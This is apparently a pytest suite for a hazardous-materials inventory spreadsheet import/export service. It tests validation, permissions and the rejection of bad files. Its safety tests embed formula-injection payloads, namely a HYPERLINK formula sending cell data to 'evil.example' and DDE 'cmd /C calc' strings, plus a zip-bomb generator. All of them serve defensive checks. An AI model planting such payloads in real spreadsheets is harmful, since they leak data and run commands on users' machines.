"""CERS HMI template import/export: round trip, row errors, Replace/Append, permissions, and bad files."""
from __future__ import annotations

import io
import zipfile
from typing import Any

import openpyxl
import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from bot.actor import Actor
from bot.errors import PermissionDenied
from bot.excel import safety
from bot.excel.safety import ExcelFileError
from bot.excel.service import export_inventory, import_inventory
from bot.excel.template import EXPORT_HEADERS, HEADERS
from bot.models import AuditEvent, Facility, FacilityRole, InventoryComponent, InventoryItem, Submittal, User
from bot.timeutil import utcnow

CERS_ID = "10000042"


@pytest.fixture
def setup(db: Session) -> tuple[Actor, Facility]:
    user = User(email="lead@example.com", full_name="Lee Lead", status="active", is_inspector=False, is_staff=False,
                failed_logins=0, created_at=utcnow())
    facility = Facility(cers_id=CERS_ID, name="Shop", street="1 Main St", street_number="1", city="Fresno",
                        zip="93721", created_at=utcnow())
    db.add_all([user, facility])
    db.flush()
    db.add(FacilityRole(user_id=user.id, facility_id=facility.id, role="lead", granted_at=utcnow()))
    db.commit()
    return Actor(user_id=user.id, channel="web"), facility


def row(**over: Any) -> dict[str, Any]:
    base = {"CERSID": CERS_ID, "ChemicalLocation": "Back shop", "CommonName": "Motor oil", "EHS": "N",
            "PhysicalState": "b", "MaximumDailyAmount": 165, "AverageDailyAmount": 110, "Units": "a",
            "LargestContainer": 55, "SCSteelDrum": "Y", "HMType": "b", "DaysOnSite": 365, "StoragePressure": "a",
            "StorageTemperature": "a", "HC1PercentByWeight": 95, "HC1Name": "Base oil", "HC1EHS": "N",
            "HC1CAS": "64742-65-0", "PFCodeHazardClass": 4}
    base.update(over)
    return base


def workbook(rows: list[dict[str, Any]], headers: list[str] = HEADERS, above: int = 2) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    for i in range(above):
        ws.append([f"Instructions line {i + 1}"])
    ws.append(headers)
    for r in rows:
        ws.append([r.get(h) for h in headers])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def count_items(db: Session) -> int:
    return db.execute(select(func.count(InventoryItem.id))).scalar_one()


def test_import_then_export_round_trip_is_identical(db: Session, setup: tuple[Actor, Facility]) -> None:
    actor, facility = setup
    rows = [row(), row(CommonName="Sulfuric acid", EHS="Y", Units="c", PhysicalState="b", MaximumDailyAmount=1200,
                     AverageDailyAmount=800, SCSteelDrum=None, SCPlasticNonMetallicDrum="Y", CASNumber="7664-93-9",
                     HMType="a", HC1PercentByWeight=None, HC1Name=None, HC1EHS=None, HC1CAS=None, CLConfidential="Y"),
            row(CommonName="Used oil", HMType="c", StateWasteCode="221", AnnualWasteAmount=600.5,
                HC2PercentByWeight=2.25, HC2Name="Lead", HC2CAS="7439-92-1", HC2EHS="N")]
    # header row in another column order, and the newer GHS columns present
    headers = list(reversed(HEADERS[1:])) + ["FHCPhysicalFlammable"]
    headers.insert(0, "CERSID")
    rows[0]["FHCPhysicalFlammable"] = "Y"
    result = import_inventory(db, actor, facility.id, workbook(rows, headers), filename="inv.xlsx")
    db.commit()
    assert result.stored and result.imported == 3 and result.errors == []
    items = db.execute(select(InventoryItem).order_by(InventoryItem.position)).scalars().all()
    assert [i.common_name for i in items] == ["Motor oil", "Sulfuric acid", "Used oil"]
    assert items[0].units == "a" and items[0].maximum_daily_amount == 165 and items[0].sc_steel_drum is True
    assert items[0].ghs_hazards == ["FHCPhysicalFlammable"] and items[1].location_confidential is True
    assert [(c.position, c.name, c.percent) for c in items[2].components] == [(1, "Base oil", 95), (2, "Lead", 2.25)]
    assert db.execute(select(AuditEvent).where(AuditEvent.action == "inventory.import")).scalar_one().actor_user_id == actor.user_id

    def snapshot() -> list[tuple]:
        out = []
        for item in db.execute(select(InventoryItem).order_by(InventoryItem.position)).scalars():
            cols = {c.name: getattr(item, c.name) for c in InventoryItem.__table__.c
                    if c.name not in ("id", "created_at", "updated_at", "submittal_id", "position")}
            comps = [(c.position, c.percent, c.name, c.ehs, c.cas) for c in item.components]
            out.append((sorted(cols.items()), comps))
        return out

    before = snapshot()
    files = export_inventory(db, actor, facility.id)
    assert len(files) == 1 and files[0].filename == f"CERSID_{CERS_ID}_HazMatInventory.xlsx"
    sheet = openpyxl.load_workbook(io.BytesIO(files[0].content), read_only=True).worksheets[0]
    assert [c for c in next(sheet.iter_rows(values_only=True))] == EXPORT_HEADERS
    again = import_inventory(db, actor, facility.id, files[0].content, mode="replace")
    db.commit()
    db.expire_all()
    assert again.stored and again.imported == 3
    assert snapshot() == before
    assert db.execute(select(func.count(Submittal.id))).scalar_one() == 1  # one Draft reused


def test_export_splits_into_files_of_500(db: Session, setup: tuple[Actor, Facility]) -> None:
    actor, facility = setup
    rows = [row(CommonName=f"Material {i}") for i in range(1203)]
    assert import_inventory(db, actor, facility.id, workbook(rows)).imported == 1203
    files = export_inventory(db, actor, facility.id)
    assert [f.items for f in files] == [500, 500, 203]
    assert files[2].filename.endswith("_part3of3.xlsx")
    total = 0
    for f in files:
        total += import_inventory(db, actor, facility.id, f.content, mode="append").imported
    assert total == 1203 and count_items(db) == 2406


def test_row_errors_store_nothing_unless_valid_rows_only(db: Session, setup: tuple[Actor, Facility]) -> None:
    actor, facility = setup
    rows = [row(), row(MaximumDailyAmount="approx 50"), row(MaximumDailyAmount=-5), row(Units="liters"),
            row(MaximumDailyAmount=5e12), {}, row(CommonName=None, CERSID=None), row(AverageDailyAmount=500),
            row(SCSteelDrum=None), row(CERSID="10000099"), row(HC1PercentByWeight=150), row(EHS=None),
            row(PhysicalState="x")]
    result = import_inventory(db, actor, facility.id, workbook(rows))
    assert not result.stored and count_items(db) == 0
    reasons = {(e.row, e.column): e.reason for e in result.errors}
    first = 4  # header on row 3
    assert "not a number" in reasons[(first + 1, "MaximumDailyAmount")]
    assert "negative" in reasons[(first + 2, "MaximumDailyAmount")]
    assert "liters" in reasons[(first + 3, "Units")] and "gallons" in reasons[(first + 3, "Units")]
    assert "too large" in reasons[(first + 4, "MaximumDailyAmount")]
    assert "more than the maximum" in reasons[(first + 7, "AverageDailyAmount")]
    assert "storage container" in reasons[(first + 8, "SCOther")]
    assert "10000042" in reasons[(first + 9, "CERSID")]
    assert "0.01 and 100" in reasons[(first + 10, "HC1PercentByWeight")]
    assert "required" in reasons[(first + 11, "EHS")]
    assert (first + 12, "PhysicalState") in reasons
    assert result.skipped_blank == 2 and result.rejected_rows == 10
    assert "Nothing was imported" in result.summary() and "Row 5, MaximumDailyAmount" in result.summary()
    partial = import_inventory(db, actor, facility.id, workbook(rows), valid_rows_only=True)
    db.commit()
    assert partial.stored and partial.imported == 1 and count_items(db) == 1


def test_replace_and_append(db: Session, setup: tuple[Actor, Facility]) -> None:
    actor, facility = setup
    import_inventory(db, actor, facility.id, workbook([row(CommonName="A"), row(CommonName="B")]))
    import_inventory(db, actor, facility.id, workbook([row(CommonName="C")]), mode="append")
    names = db.execute(select(InventoryItem.common_name).order_by(InventoryItem.position)).scalars().all()
    assert names == ["A", "B", "C"]
    import_inventory(db, actor, facility.id, workbook([row(CommonName="D")]), mode="replace")
    db.commit()
    assert db.execute(select(InventoryItem.common_name)).scalars().all() == ["D"]
    assert db.execute(select(func.count(InventoryComponent.id))).scalar_one() == 1


def test_caller_needs_a_role_on_the_facility(db: Session, setup: tuple[Actor, Facility]) -> None:
    _, facility = setup
    stranger = User(email="x@example.com", full_name="X", status="active", is_inspector=False, is_staff=False,
                    failed_logins=0, created_at=utcnow())
    db.add(stranger)
    db.commit()
    with pytest.raises(PermissionDenied):
        import_inventory(db, Actor(user_id=stranger.id), facility.id, workbook([row()]))
    assert count_items(db) == 0


def _encrypted_like() -> bytes:
    # an OLE compound file header + the UTF-16 stream names an encrypted OOXML package has
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "EncryptionInfo".encode("utf-16-le") + \
        "EncryptedPackage".encode("utf-16-le") + b"\x00" * 1000


def _zip_bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("xl/worksheets/sheet1.xml", b"0" * (400 * 1024 * 1024))
    return buf.getvalue()


def _with_formula(cached: bool) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(HEADERS)
    values = row()
    ws.append([values.get(h) for h in HEADERS])
    ws.cell(row=2, column=HEADERS.index("MaximumDailyAmount") + 1, value="=3*55")
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _merged() -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["Title"])
    ws.merge_cells("A1:D1")  # a merged title above the header is fine in CERS' template...
    ws.append(HEADERS)
    values = row()
    ws.append([values.get(h) for h in HEADERS])
    ws.append([values.get(h) for h in HEADERS])
    ws.merge_cells(start_row=3, start_column=2, end_row=4, end_column=2)  # ...merged data cells are not
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


@pytest.mark.parametrize("make, filename, words", [
    (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000, "old.xls", ".xls"),
    (lambda: b"CERSID,CommonName\n10000042,Diesel\n", "inventory.xlsx", "CSV"),
    (_encrypted_like, "locked.xlsx", "password"),
    (_zip_bomb, "bomb.xlsx", "zip bomb"),
    (lambda: workbook([row()], headers=[h for h in HEADERS if h not in ("Units", "SCCan")]), "x.xlsx", "missing Units, SCCan"),
    (lambda: workbook([row()], headers=["CERS ID"] + HEADERS[1:]), "x.xlsx", "header row"),
    (_merged, "merged.xlsx", "merged cells"),
    (lambda: b"%PDF-1.4 not a workbook \x00\x01\x02", "scan.xlsx", "not an Excel"),
])
def test_bad_files_get_a_clear_message_and_store_nothing(db: Session, setup: tuple[Actor, Facility], make, filename,
                                                         words) -> None:
    actor, facility = setup
    with pytest.raises(ExcelFileError) as err:
        import_inventory(db, actor, facility.id, make(), filename=filename)
    assert words in err.value.message
    assert count_items(db) == 0


def test_formula_without_saved_result_is_a_row_error(db: Session, setup: tuple[Actor, Facility]) -> None:
    actor, facility = setup
    result = import_inventory(db, actor, facility.id, _with_formula(cached=False))
    assert not result.stored and count_items(db) == 0
    assert result.errors[0].column == "MaximumDailyAmount" and "formula" in result.errors[0].reason


def test_huge_file_refused_before_parsing(db: Session, setup: tuple[Actor, Facility], tmp_path, monkeypatch) -> None:
    actor, facility = setup
    big = tmp_path / "big.xlsx"
    with big.open("wb") as handle:
        handle.truncate(50 * 1024 * 1024)  # sparse 50 MB file
    monkeypatch.setattr("bot.excel.service.read_workbook", lambda *a, **k: pytest.fail("parsed a 50 MB file"))
    with pytest.raises(ExcelFileError) as err:
        import_inventory(db, actor, facility.id, big)
    assert "50 MB" in err.value.message and str(safety.MAX_FILE_BYTES // 1024 // 1024) in err.value.message
    assert count_items(db) == 0


# --- spreadsheet safety: formulas, caps, one import at a time -------------------------------------------------
@pytest.mark.parametrize("column, value", [
    ("CommonName", '=HYPERLINK("http://evil.example/"&A2,"Open SDS")'),
    ("ChemicalLocation", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("ChemicalName", "+HYPERLINK(\"http://evil.example\")"),
    ("HC1Name", "-2+3+cmd|' /C calc'!A0"),
])
def test_text_cells_that_start_like_a_formula_are_refused(db: Session, setup: tuple[Actor, Facility], column,
                                                         value) -> None:  # type: ignore[no-untyped-def]
    actor, facility = setup
    wb = openpyxl.load_workbook(io.BytesIO(workbook([row(), row()])))
    cell = wb.active.cell(row=5, column=HEADERS.index(column) + 1)
    cell.value = value
    cell.data_type = "s"  # typed as text (a leading apostrophe in Excel, or a text-formatted cell)
    buf = io.BytesIO()
    wb.save(buf)
    result = import_inventory(db, actor, facility.id, buf.getvalue())
    assert not result.stored and count_items(db) == 0
    [error] = result.errors
    assert (error.row, error.column) == (5, column) and "formula" in error.reason and value[0] in error.reason


def test_a_dash_or_a_signed_number_in_a_text_cell_is_fine(db: Session, setup: tuple[Actor, Facility]) -> None:
    actor, facility = setup
    result = import_inventory(db, actor, facility.id, workbook([row(MapNumber="-", GridNumber="-5")]))
    assert result.stored and result.imported == 1


def test_every_text_is_exported_as_text_never_as_a_live_formula(db: Session, setup: tuple[Actor, Facility]) -> None:
    """A name that came in through the chat (or an older import) and starts with "=" stays text in Excel."""
    actor, facility = setup
    assert import_inventory(db, actor, facility.id, workbook([row()])).stored
    item = db.execute(select(InventoryItem)).scalar_one()
    item.common_name = '=HYPERLINK("http://evil.example/"&A2,"Open SDS")'
    item.location = "@cmd"
    db.commit()
    [exported] = export_inventory(db, actor, facility.id)
    sheet_xml = zipfile.ZipFile(io.BytesIO(exported.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml  # stored as a string, not a formula
    cells = {c.value: c for r in openpyxl.load_workbook(io.BytesIO(exported.content)).worksheets[0].iter_rows()
             for c in r if isinstance(c.value, str)}
    danger = cells['=HYPERLINK("http://evil.example/"&A2,"Open SDS")']
    assert danger.data_type == "s" and danger.quotePrefix  # Excel keeps it text even after an edit
    assert cells["@cmd"].quotePrefix and cells["Base oil"].data_type == "s" and not cells["Base oil"].quotePrefix


def test_the_row_cap_is_stated_and_enforced(db: Session, setup: tuple[Actor, Facility], monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from bot.excel import reader

    actor, facility = setup
    monkeypatch.setattr(reader, "MAX_IMPORT_ROWS", 5)
    with pytest.raises(ExcelFileError) as too_many:
        import_inventory(db, actor, facility.id, workbook([row(CommonName=f"M{i}") for i in range(6)]))
    assert "more than 5 materials" in too_many.value.message and "Append" in too_many.value.message
    assert import_inventory(db, actor, facility.id, workbook([row(CommonName=f"M{i}") for i in range(5)])).stored
    assert "10,000 materials" in safety.LIMITS_TEXT


def test_a_sheet_claiming_a_million_rows_and_columns_is_read_in_bounded_time(db: Session,
                                                                            setup: tuple[Actor, Facility]) -> None:
    """Cells far right of the headings and far below the data are never read (formatting often reaches them)."""
    import time

    actor, facility = setup
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(HEADERS)
    ws.append([row().get(h) for h in HEADERS])
    ws.cell(row=2, column=16000, value="far right")
    for r in range(3, 3 + 2500):  # a long run of empty (formatted) rows, then a stray value
        ws.cell(row=r, column=1).number_format = "0.00"
    ws.cell(row=3000, column=1, value="stray")
    buf = io.BytesIO()
    wb.save(buf)
    started = time.perf_counter()
    result = import_inventory(db, actor, facility.id, buf.getvalue())
    assert result.stored and result.imported == 1
    assert time.perf_counter() - started < 20


def test_a_part_loaded_whole_may_not_be_huge(db: Session, setup: tuple[Actor, Facility]) -> None:
    import os

    actor, facility = setup
    buf = io.BytesIO(workbook([row()]))
    block = os.urandom(2000) + b"\0" * 98000  # compresses about 50 to 1: not a zip bomb by its ratio
    with zipfile.ZipFile(buf, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings2.xml", block * (safety.MAX_LOADED_PART_BYTES // len(block) + 1))
    assert len(buf.getvalue()) < safety.MAX_FILE_BYTES
    with pytest.raises(ExcelFileError) as refused:
        import_inventory(db, actor, facility.id, buf.getvalue())
    assert "zip bomb" in refused.value.message


def test_two_imports_of_one_facility_at_once_do_not_interleave(db_url: str, setup: tuple[Actor, Facility]) -> None:
    """PostgreSQL: the second import finds the Draft locked and is told to wait (nothing of it is stored)."""
    from bot.db import new_session
    from bot.errors import Conflict

    actor, facility = setup
    if db_url.startswith("sqlite"):
        pytest.skip("SQLite runs one writer at a time: the second import waits for the first")
    first, second = new_session(), new_session()
    try:
        assert import_inventory(first, actor, facility.id, workbook([row(CommonName="Old")])).stored
        first.commit()  # the Draft exists
        assert import_inventory(first, actor, facility.id, workbook([row(CommonName="First")]), mode="replace").stored
        with pytest.raises(Conflict) as running:
            import_inventory(second, actor, facility.id, workbook([row(CommonName="Second")]), mode="append")
        assert "being imported right now" in running.value.message
        second.rollback()
        first.commit()
        assert import_inventory(second, actor, facility.id, workbook([row(CommonName="Second")]), mode="append").stored
        second.commit()
    finally:
        first.close()
        second.close()
    check = new_session()
    try:
        assert [i.common_name for i in check.execute(select(InventoryItem).order_by(InventoryItem.position)).scalars()] \
            == ["First", "Second"]
    finally:
        check.close()
